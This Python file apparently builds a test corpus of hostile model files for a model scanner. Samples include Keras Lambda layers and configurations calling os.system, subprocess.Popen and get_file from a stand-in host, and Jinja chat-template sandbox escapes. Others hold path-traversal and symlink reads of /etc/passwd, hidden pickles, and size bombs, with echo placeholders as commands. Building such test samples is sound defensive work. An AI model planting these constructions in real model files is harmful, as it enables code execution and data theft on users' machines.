"""Hostile files of the formats that are no pickles: Keras, HDF5, ONNX, GGUF, safetensors, TFLite, SavedModel."""

import base64
import json
import os
import struct
from pathlib import Path

from archives import Entry, zipped
from containers import BYTES, torch_zip
from opcodes import ECHO, HOSTILE

HDF5 = Path(__file__).parent / "hdf5"


def dumps(value):
    return json.dumps(value).encode()


def keras(corpus):
    """Keras archives whose configuration names what it should not."""

    def layer(class_name, config, module="keras.layers", **more):
        return {"module": module, "class_name": class_name, "config": config, "registered_name": None, **more}

    def model(*layers, **more):
        return {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": list(layers)}, "registered_name": None, **more}

    def add(title, config, about, *more, callable=None, expect="dangerous"):
        data = zipped(
            Entry("metadata.json", dumps({"keras_version": "3.8.0"})), Entry("config.json", dumps(config)),
            Entry("model.weights.h5", (HDF5 / "benign-dense.weights.h5").read_bytes()), *more,
        )
        if expect == "odd":
            corpus.bounded("keras", f"{title}.keras", data, about)
        else:
            corpus.hostile("keras", f"{title}.keras", data, about, expect, callable)

    def function(module, name):
        return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}

    code = base64.b64encode(b"\xe3\0\0\0\0").decode()
    compiled = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    add("lambda", model(layer("Lambda", {"function": compiled})), "a Lambda with marshalled code")
    add("lambda-function", model(layer("Lambda", {"function": function("os", "system"), "arguments": {"command": ECHO}})), "CVE-2025-1550: a Lambda of any function", callable="os.system")
    add("lambda-get-file", model(layer("Lambda", {"function": function("keras.utils", "get_file"), "arguments": {"origin": "http://weighbridge.invalid/x", "extract": True}})), "CVE-2025-8747: a Lambda of keras.utils.get_file", callable="keras.utils.get_file")
    add("unsafe-first", model(layer("enable_unsafe_deserialization", {}, "keras.config"), layer("Lambda", {"function": compiled})), "CVE-2025-9906: safe mode switched off by the configuration", callable="keras.config.enable_unsafe_deserialization")
    add("any-class", model(layer("Popen", {"args": ["echo"]}, "subprocess")), "any class of any module", callable="subprocess.Popen")
    add("any-module", {"module": "os", "class_name": "system", "config": {"command": ECHO}}, "the model itself is os.system", callable="os.system")
    add("nested-activation", model(layer("Dense", {"units": 2, "activation": function("os", "system")})), "an activation is os.system", callable="os.system")
    add("nested-initializer", model(layer("Dense", {"units": 2, "kernel_initializer": layer("system", {}, "os")})), "an initializer is os.system", callable="os.system")
    add("compile-config", {**model(), "compile_config": {"loss": function("os", "system"), "optimizer": "adam"}}, "a loss is os.system", callable="os.system")
    add("deep", model(layer("TimeDistributed", {"layer": layer("Bidirectional", {"layer": layer("Lambda", {"function": function("os", "system")})})})), "a Lambda inside two wrappers", callable="os.system")
    add("torch-module", model(layer("TorchModuleWrapper", {"module": base64.b64encode(torch_zip(HOSTILE)).decode()})), "CVE-2025-49655: a torch file in a layer's configuration")
    add("registered-name", model(layer("MyLayer", {}, None)), "a class of nobody's", expect="not-clean")
    add("custom-module", model(layer("MyLayer", {}, "evil.layers")), "a class of a module that nobody knows", expect="not-clean", callable="evil.layers.MyLayer")
    add("vocabulary", model(layer("StringLookup", {"vocabulary": "/etc/passwd"})), "CVE-2025-12058: a vocabulary that is a file", expect="not-clean")
    add("vocabulary-url", model(layer("StringLookup", {"vocabulary": "http://weighbridge.invalid/x"})), "CVE-2025-12058: a vocabulary that is an address", expect="not-clean")
    add("raw-numpy", model(layer("Dense", {"units": {"class_name": "__numpy__", "config": {"value": [1], "dtype": "object"}}})), "an array in the configuration", expect="odd")
    add("module-attribute", model(layer("Lambda", {"function": function("keras.src.utils.file_utils", "os.system")})), "another module's attribute through Keras's own")
    add("broken-config", "no model", "a configuration that is no object", expect="odd")
    add("pickle-asset", model(), "a pickle among the assets", Entry("assets/vocabulary.txt", HOSTILE), callable="os.system")
    add("parent-asset", model(), "an asset outside", Entry("assets/../../x", b"x"), expect="not-clean")
    add("two-configs", model(layer("Dense", {"units": 1})), "two configurations of one name", Entry("config.json", dumps(model(layer("Lambda", {"function": compiled})))))
    for name, about in [("external-storage.h5", "CVE-2026-1669: external storage in the weights"), ("external-link.h5", "CVE-2026-1669: an external link in the weights"), ("shape-bomb.h5", "CVE-2026-0897: a shape of 2^45 in the weights")]:
        data = zipped(Entry("metadata.json", b"{}"), Entry("config.json", dumps(model())), Entry("model.weights.h5", (HDF5 / name).read_bytes()))
        expect = "not-clean" if "shape" in name else "dangerous"
        corpus.hostile("keras", f"weights-{name}.keras", data, about, expect)
    deep = b'{"module": "keras", "config": ' + b'{"a": ' * 20_000 + b"1" + b"}" * 20_001
    data = zipped(Entry("metadata.json", b"{}"), Entry("config.json", deep))
    corpus.hostile("keras", "deep-json.keras", data, "a configuration 20,000 deep", "not-clean")
    pickled = zipped(Entry("metadata.json", b"{}"), Entry("config.json", dumps(model())), Entry("model.weights.h5", HOSTILE))
    corpus.hostile("keras", "pickle-for-weights.keras", pickled, "a pickle named as weights", callable="os.system")
    corpus.hostile("keras", "lambda-real.keras", (HDF5 / "lambda.keras").read_bytes(), "a Lambda as Keras writes it")
    text = dumps(model(layer("Lambda", {"function": compiled})))
    corpus.hostile("keras", "model.json", text, "a model's configuration as a file of its own", "not-clean")
    corpus.hostile("keras", "model.yaml", b"!!python/object/apply:os.system [echo weighbridge]\n", "Keras's old YAML that constructs objects", "not-clean")


def hdf5(corpus):
    for name, about, callable in [
        ("lambda.h5", "CVE-2025-9905: a Lambda in an .h5, where safe mode does not count", None),
        ("lambda-legacy.h5", "a Lambda as Keras 2 wrote it", None),
        ("callable.h5", "a function of any module", "os.system"),
        ("callable-text.h5", "the same in a string of variable length", "os.system"),
        ("any-class.h5", "any class of any module", "subprocess.Popen"),
        ("activation.h5", "an activation that is os.system", "os.system"),
        ("external-link.h5", "CVE-2026-1669: an external link", None),
        ("external-storage.h5", "CVE-2026-1669: external storage, absolute", None),
        ("external-storage-relative.h5", "external storage outside the folder", None),
        ("external-latest.h5", "both, in the newest layout of HDF5", None),
        ("deep-external.h5", "an external link 20 groups deep", None),
        ("virtual.h5", "a virtual dataset of another file", None),
        ("own-class.h5", "a class of a module that nobody knows", None),
        ("shape-bomb.h5", "CVE-2026-0897: a dataset of 2^45 floats without one of them", None),
        ("shape-bomb-latest.h5", "the same, in the newest layout of HDF5", None),
        ("pickled-attribute.h5", "a pickle in an attribute, as PyTables writes them", None),
        ("vlen-chunked.h5", "a pickle in a dataset of variable length, in chunks", "os.system"),
        ("opaque-chunked.h5", "a pickle in opaque elements, in chunks", None),
        ("opaque-packed.h5", "the same, compressed", None),
    ]:
        expect = "not-clean" if name in ("own-class.h5", "shape-bomb.h5", "shape-bomb-latest.h5", "pickled-attribute.h5", "virtual.h5", "opaque-chunked.h5", "opaque-packed.h5") else "dangerous"
        data = (HDF5 / name).read_bytes()
        corpus.hostile("hdf5", name, data, about, expect, callable)
    corpus.bounded("hdf5", "group-loop.h5", (HDF5 / "group-loop.h5").read_bytes(), "groups inside themselves")
    good = (HDF5 / "benign-plain.h5").read_bytes()
    corpus.hostile("hdf5", "cut.h5", good[:3000], "a file that is cut off", "not-clean")
    corpus.hostile("hdf5", "behind-bytes.h5", b"\0" * 512 + (HDF5 / "callable.h5").read_bytes(), "a superblock at 512", "not-clean")
    corpus.hostile("hdf5", "other-name.bin", (HDF5 / "callable.h5").read_bytes(), "an HDF5 file named .bin", callable="os.system")


def onnx(corpus):
    from onnx import TensorProto, helper

    def model(*initializers, nodes=None, domains=(), **more):
        nodes = nodes or [helper.make_node("Identity", ["x"], ["y"])]
        value = helper.make_tensor_value_info
        graph = helper.make_graph(nodes, "g", [value("x", TensorProto.FLOAT, [1])], [value("y", TensorProto.FLOAT, [1])], list(initializers))
        opsets = [helper.make_opsetid("", 21), *(helper.make_opsetid(d, 1) for d in domains)]
        return helper.make_model(graph, opset_imports=opsets, ir_version=10, **more)

    def external(location, offset=0, length=16, dims=(4,)):
        tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=dims, data_location=TensorProto.EXTERNAL)
        for key, value in [("location", location), ("offset", str(offset)), ("length", str(length))]:
            tensor.external_data.add(key=key, value=value)
        return tensor

    def folder(title, tensor, about, files=(), expect="dangerous"):
        content = {"model.onnx": model(tensor).SerializeToString(), **dict(files)}
        return corpus.hostile("onnx", title, content, about, expect)

    paths = {
        "parent": "../secret.bin", "deep-parent": "a/../../secret.bin", "absolute": "/etc/passwd", "backslash": "..\\secret.bin",
        "drive": "C:\\secret.bin", "nul": "w.bin\0/../../x", "dots": "./.././secret.bin",
        "address": "http://weighbridge.invalid/w.bin", "file-address": "file:///etc/passwd",
    }
    for title, path in paths.items():
        expect = "dangerous" if title in ("parent", "deep-parent", "absolute", "dots") else "not-clean"
        folder(f"external-{title}", external(path), f"external data at {path!r} (CVE-2022-25882, CVE-2024-27318)", [("a/x", b"")], expect)
    linked = folder("external-symlink", external("w.bin"), "external data that is a symlink out of the folder")
    os.symlink("/etc/passwd", linked / "w.bin")
    hard = folder("external-hard-link", external("w.bin"), "external data that is a hard link", expect="not-clean")
    outside = corpus.root / "outside.bin"
    outside.write_bytes(b"secret secret secret")
    os.link(outside, hard / "w.bin")
    for title, options in [("offset", {"offset": 1000}), ("length", {"length": 2**40}), ("negative", {"offset": -1}), ("overflow", {"offset": 2**63, "length": 2**63})]:
        folder(f"external-{title}", external("w.bin", **options), f"external data whose {title} lies", [("w.bin", BYTES)], "not-clean")
    corpus.bounded("onnx", "external-missing", {"model.onnx": model(external("w.bin")).SerializeToString()}, "external data that is not there")
    node = helper.make_node
    custom = {
        "custom-domain": (node("Run", ["x"], ["y"], domain="evil.ops"), ["evil.ops"]),
        "custom-default-domain": (node("RunCommand", ["x"], ["y"]), []),
        "python-operator": (node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib", code="import os"), ["ai.onnx.contrib"]),
        "aten": (node("ATen", ["x"], ["y"], domain="org.pytorch.aten", operator="from_file"), ["org.pytorch.aten"]),
    }
    for title, (operator, domains) in custom.items():
        corpus.hostile("onnx", f"{title}.onnx", model(nodes=[operator], domains=domains).SerializeToString(), f"an operator that ONNX does not have: {title}", "not-clean")
    body = helper.make_graph([node("Run", ["x"], ["z"], domain="evil.ops")], "b", [], [helper.make_tensor_value_info("z", 1, [1])])
    branch = node("If", ["c"], ["y"], then_branch=body, else_branch=body)
    corpus.hostile("onnx", "custom-in-branch.onnx", model(nodes=[branch], domains=["evil.ops"]).SerializeToString(), "a custom operator in a branch", "not-clean")
    function = helper.make_function("local", "F", ["x"], ["y"], [node("Run", ["x"], ["y"], domain="evil.ops")], [helper.make_opsetid("evil.ops", 1)])
    call = model(nodes=[node("F", ["x"], ["y"], domain="local")], domains=["local"], functions=[function])
    corpus.hostile("onnx", "custom-in-function.onnx", call.SerializeToString(), "a custom operator in a function", "not-clean")
    attribute = helper.make_node("Constant", [], ["y"])
    attribute.attribute.append(helper.make_attribute("value", external("../secret.bin")))
    corpus.hostile("onnx", "external-in-attribute.onnx", model(nodes=[attribute]).SerializeToString(), "external data of a constant's attribute")
    good = model(helper.make_tensor("w", TensorProto.FLOAT, [4], BYTES, raw=True))
    data = good.SerializeToString()
    corpus.hostile("onnx", "cut.onnx", data[:-7], "a file that is cut off", "not-clean")
    corpus.hostile("onnx", "length-lies.onnx", b"\x08\x0a\x3a\xff\xff\xff\xff\x0f" + data, "a message longer than the file", "not-clean")
    short = model(TensorProto(name="w", data_type=1, dims=[2**40], raw_data=BYTES))
    corpus.bounded("onnx", "shape-lies.onnx", short.SerializeToString(), "2^40 floats in 16 bytes")
    negative = model(TensorProto(name="w", data_type=1, dims=[-4], raw_data=BYTES))
    corpus.bounded("onnx", "shape-negative.onnx", negative.SerializeToString(), "a negative size")
    corpus.bounded("onnx", "pickle-in-initializer.onnx", model(TensorProto(name="w", data_type=2, dims=[len(HOSTILE)], raw_data=HOSTILE)).SerializeToString(), "a pickle where an initializer\'s bytes are: numbers, which nobody loads")


def gguf(corpus):
    STRING, ARRAY, UINT32 = 8, 9, 4

    def text(value):
        data = value if isinstance(value, bytes) else value.encode()
        return struct.pack("<Q", len(data)) + data

    def pair(key, kind, data):
        return text(key) + struct.pack("<I", kind) + data

    def tensor(name, dims, kind=0, offset=0):
        return text(name) + struct.pack("<I", len(dims)) + struct.pack(f"<{len(dims)}Q", *dims) + struct.pack("<IQ", kind, offset)

    arch = pair("general.architecture", STRING, text("llama"))

    def file(pairs=(arch,), tensors=(tensor("w", [4]),), pair_count=None, tensor_count=None, data=BYTES, version=3):
        out = b"GGUF" + struct.pack("<IQQ", version, len(tensors) if tensor_count is None else tensor_count, len(pairs) if pair_count is None else pair_count)
        out += b"".join(pairs) + b"".join(tensors)
        return out + b"\0" * (-len(out) % 32) + data

    def add(title, data, about, expect="not-clean"):
        if expect == "odd":
            corpus.bounded("gguf", f"{title}.gguf", data, about)
        else:
            corpus.hostile("gguf", f"{title}.gguf", data, about, expect)

    add("pairs-overflow", file(pair_count=2**63), "2^63 keys")
    add("tensors-overflow", file(tensor_count=2**61), "2^61 tensors")
    add("string-overflow", file([text("general.architecture") + struct.pack("<IQ", STRING, 2**63) + b"llama"]), "a string of 2^63 bytes")
    add("key-overflow", file([struct.pack("<Q", 2**64 - 1) + b"key"]), "a key of 2^64 - 1 bytes")
    add("array-overflow", file([arch, text("a") + struct.pack("<IIQ", ARRAY, UINT32, 2**62)]), "an array of 2^62 numbers")
    add("array-of-arrays", file([arch, text("a") + struct.pack("<IIQ", ARRAY, ARRAY, 1) + struct.pack("<IQI", UINT32, 1, 7)]), "an array of arrays")
    deep = b"".join(struct.pack("<IQ", ARRAY, 1) for _ in range(5_000))
    add("array-deep", file([arch, text("a") + struct.pack("<I", ARRAY) + deep + struct.pack("<IQI", UINT32, 1, 7)]), "arrays 5,000 deep")
    add("zero-dims", file(tensors=[tensor("w", [4, 0])]), "a tensor with a size of zero")
    add("five-dims", file(tensors=[tensor("w", [1, 1, 1, 1, 4])]), "five dimensions")
    add("many-dims", file(tensors=[text("w") + struct.pack("<I", 2**31) + b"\0" * 64]), "2^31 dimensions")
    add("size-overflow", file(tensors=[tensor("w", [2**40, 2**40])]), "a product that overflows")
    add("past-the-end", file(tensors=[tensor("w", [1000])]), "a tensor past the end")
    add("offset", file(tensors=[tensor("w", [4], offset=2**63)]), "an offset past the end")
    add("offset-unaligned", file(tensors=[tensor("w", [2], offset=4)]), "an offset that is not aligned")
    add("overlap", file(tensors=[tensor("a", [4]), tensor("b", [4])]), "two tensors over the same bytes")
    add("same-name", file(tensors=[tensor("w", [4]), tensor("w", [4], offset=32)], data=BYTES.ljust(32, b"\0") + BYTES), "two tensors of one name")
    add("empty-key", file([arch, pair("", UINT32, b"\1\0\0\0")]), "an empty key")
    add("same-key", file([arch, arch]), "a key twice")
    for alignment in (0, 3, 2**31):
        add(f"alignment-{alignment}", file([arch, pair("general.alignment", UINT32, struct.pack("<I", alignment))]), f"an alignment of {alignment}")
    add("unknown-kind", file([arch, pair("x", 99, b"\0" * 8)]), "a value of no kind")
    add("unknown-type", file(tensors=[tensor("w", [4], kind=250)]), "a tensor of no type")
    add("version", file(version=99), "a version of the future")
    add("cut", file()[:60], "a file that is cut off")
    add("key-nul", file([arch, pair("a\0b", UINT32, b"\1\0\0\0")]), "NUL in a key")
    add("key-not-utf8", file([arch, pair(b"\xff\xfe", UINT32, b"\1\0\0\0")]), "a key that is no UTF-8", "odd")
    for title, template in TEMPLATES.items():
        add(f"template-{title}", file([arch, pair("tokenizer.chat_template", STRING, text(template))]), f"a chat template that leaves its sandbox: {title}")
    named = pair("tokenizer.chat_template.tool_use", STRING, text(TEMPLATES["mro"]))
    add("template-named", file([arch, named]), "a second chat template")
    add("pickle-behind", file(data=BYTES.ljust(32, b"\0") + HOSTILE), "a pickle behind the tensors, which nobody loads", "odd")


TEMPLATES = {
    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x.__init__.__globals__['os'].popen('echo weighbridge').read() }}{% endfor %}",
    "cycler": "{{ cycler.__init__.__globals__.os.popen('echo weighbridge').read() }}",
    "attr": "{{ messages|attr('__class__')|attr('__mro__') }}",
    "subscript": "{{ messages['__cl' ~ 'ass__']['__mro__'] }}",
    "hex": "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "builtins": "{{ self._TemplateReference__context.namespace.__init__.__builtins__['__import__']('os').system('echo weighbridge') }}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}{{ os.system('echo weighbridge') }}",
}


def safetensors(corpus):
    def file(header, data=BYTES, length=None):
        text = header if isinstance(header, bytes) else dumps(header)
        return struct.pack("<Q", len(text) if length is None else length) + text + data

    def add(title, data, about):
        corpus.hostile("safetensors", f"{title}.safetensors", data, about, "not-clean")

    tensor = {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}
    good = dumps({"w": tensor})
    entry = dumps(tensor).decode()
    add("header-too-long", file(good, length=100_000_001), "a header over 100,000,000 bytes")
    add("length-past-file", file(good, length=5000), "a header past the file")
    add("length-huge", file(good, length=2**64 - 1), "a header of 2^64 - 1 bytes")
    add("length-short", file(good, length=10), "a header cut in the middle")
    add("length-zero", file(good, length=0), "a header of no bytes")
    add("not-utf8", file(good[:3] + b"\xff" + good[4:]), "a header that is no UTF-8")
    add("bom", file(b"\xef\xbb\xbf" + good), "a byte order mark")
    add("nul-padding", file(good + b"\0" * 7), "padding by NUL")
    add("trailing-junk", file(good + b" x"), "junk behind the header's object")
    add("array", file(b"[]"), "a top-level array")
    add("deep", file(b'{"w": ' + b"[" * 30_000 + b"]" * 30_000 + b"}"), "nesting 30,000 deep")
    for title, dtype in [("unknown", "F31"), ("lower-case", "f32"), ("number", 3)]:
        add(f"dtype-{title}", file({"w": {**tensor, "dtype": dtype}}), f"a dtype that is none: {dtype}")
    add("metadata-number", file({"__metadata__": {"a": 1}, "w": tensor}), "metadata that is no text")
    add("metadata-array", file({"__metadata__": [], "w": tensor}), "metadata that is an array")
    add("metadata-twice", file(b'{"__metadata__": {"a": "b"}, "__metadata__": {"a": "c"}, "w": ' + entry.encode() + b"}"), "metadata twice")
    add("dims-negative", file({"w": {**tensor, "shape": [-2, -2]}}), "negative sizes")
    add("dims-float", file({"w": {**tensor, "shape": [2.0, 2]}}), "a size that is no integer")
    add("dims-overflow", file({"w": {**tensor, "shape": [2**40, 2**40]}}), "a product that overflows")
    add("size", file({"w": {**tensor, "shape": [3, 2]}}), "sizes that do not fit the bytes")
    add("hole", file({"w": {**tensor, "data_offsets": [4, 20]}}, BYTES + b"\0" * 4), "a hole before the first tensor")
    add("overlap", file({"a": tensor, "b": {**tensor, "data_offsets": [8, 24]}}, BYTES + b"\0" * 8), "tensors that overlap")
    add("end-short", file({"w": tensor}, BYTES + HOSTILE), "bytes behind the last tensor: a pickle")
    add("end-long", file({"w": tensor}, BYTES[:8]), "a tensor past the end")
    add("offsets-reversed", file({"w": {**tensor, "data_offsets": [16, 0]}}), "an end before its begin")
    add("offsets-three", file({"w": {**tensor, "data_offsets": [0, 8, 16]}}), "three offsets")
    add("offsets-huge", file({"w": {**tensor, "data_offsets": [2**63, 2**63 + 16]}}), "offsets past the file")
    add("missing-field", file({"w": {"dtype": "F32", "shape": [2, 2]}}), "no offsets")
    add("same-name", file(b'{"w": ' + entry.encode() + b', "w": ' + entry.encode() + b"}"), "a name twice")
    add("cut", file(good)[:20], "a file that is cut off")
    add("seven-bytes", b"\1\0\0\0\0\0\0", "seven bytes")


def shards(corpus):
    """Shard indices that leave the folder."""
    import safetensors.numpy
    import numpy

    good = safetensors.numpy.save({"w": numpy.zeros((2, 2), "f4")})

    def add(title, path, about, files=(), index="model.safetensors.index.json", expect="dangerous"):
        content = {index: dumps({"metadata": {"total_size": 16}, "weight_map": {"w": path}}), **dict(files)}
        if expect == "odd":
            return corpus.bounded("shards", title, content, about)
        return corpus.hostile("shards", title, content, about, expect)

    add("parent", "../outside.safetensors", "a shard outside the folder")
    add("deep-parent", "a/../../outside.safetensors", "a shard outside the folder, by a detour", [("a/x", b"")])
    add("absolute", "/etc/passwd", "an absolute shard")
    add("torch-parent", "../outside.bin", "a torch shard outside the folder", index="pytorch_model.bin.index.json")
    index = dumps({"weight_map": {"w": "model-00001-of-00002.safetensors"}})
    corpus.bounded("shards", "missing", {"model.safetensors.index.json": index}, "a shard that is not there")
    add("nul", "w\0.safetensors", "NUL in a shard's name", expect="not-clean")
    add("no-text", 5, "a shard that is a number", expect="odd")
    add("other-tensor", "model.safetensors", "a tensor that its shard does not have", [("model.safetensors", good.replace(b'"w"', b'"v"'))], expect="odd")
    linked = add("symlink", "w.safetensors", "a shard that is a symlink out of the folder")
    os.symlink("/etc/passwd", linked / "w.safetensors")


def tflite(custom=None, builtin=0):
    """A TFLite model of one operator."""
    import flatbuffers

    b = flatbuffers.Builder(256)
    label = b.CreateString(custom) if custom else None
    b.StartObject(4)
    b.PrependInt8Slot(0, min(builtin, 127), 0)
    if label:
        b.PrependUOffsetTRelativeSlot(1, label, 0)
    b.PrependInt32Slot(2, 1, 1)
    b.PrependInt32Slot(3, builtin, 0)
    code = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(code)
    codes = b.EndVector()
    b.StartObject(8)
    b.PrependUint32Slot(0, 3, 0)
    b.PrependUOffsetTRelativeSlot(1, codes, 0)
    b.Finish(b.EndObject(), file_identifier=b"TFL3")
    return bytes(b.Output())


def tensorflow(corpus):
    """TFLite's custom operators, and SavedModels that read and write files."""
    corpus.hostile("tensorflow", "custom.tflite", tflite("EvilOperator", 32), "a custom operator", "not-clean")
    corpus.hostile("tensorflow", "flex.tflite", tflite("FlexWriteFile", 32), "TensorFlow's WriteFile by the Flex delegate", "not-clean")
    corpus.hostile("tensorflow", "cut.tflite", tflite("EvilOperator", 32)[:30], "a file that is cut off", "not-clean")

    def field(number, data):
        size, head = len(data), bytes([number << 3 | 2])
        while size > 127:
            head += bytes([size & 127 | 128])
            size >>= 7
        return head + bytes([size]) + data

    def saved(*operators):
        nodes = b"".join(field(1, field(1, f"n{i}".encode()) + field(2, op.encode())) for i, op in enumerate(operators))
        return b"\x08\x01" + field(2, field(1, field(4, b"serve")) + field(2, nodes))

    for operator in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "MatchingFiles"):
        content = {"saved_model.pb": saved("Placeholder", operator, "MatMul"), "variables/variables.index": b""}
        corpus.hostile("tensorflow", f"saved-{operator}", content, f"a SavedModel with the operator {operator}", "not-clean")
    library = b"\x08\x01" + field(2, field(2, field(2, field(1, field(3, field(1, b"n") + field(2, b"WriteFile"))))))
    corpus.hostile("tensorflow", "saved-in-function", {"saved_model.pb": library}, "an operator in a SavedModel's function", "not-clean")
    config = dumps({"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wA="}}}})
    metadata = field(1, field(3, b"root.layer-0") + field(4, b"_tf_keras_layer") + field(5, config))
    corpus.hostile("tensorflow", "saved-keras-lambda", {"saved_model.pb": saved("MatMul"), "keras_metadata.pb": metadata}, "a Lambda in a SavedModel's Keras metadata", "not-clean")
    assets = {"saved_model.pb": saved("MatMul"), "assets/vocabulary.txt": HOSTILE}
    corpus.hostile("tensorflow", "saved-asset", assets, "a pickle among a SavedModel's assets", callable="os.system")


def build(corpus):
    keras(corpus)
    hdf5(corpus)
    onnx(corpus)
    gguf(corpus)
    safetensors(corpus)
    shards(corpus)
    tensorflow(corpus)
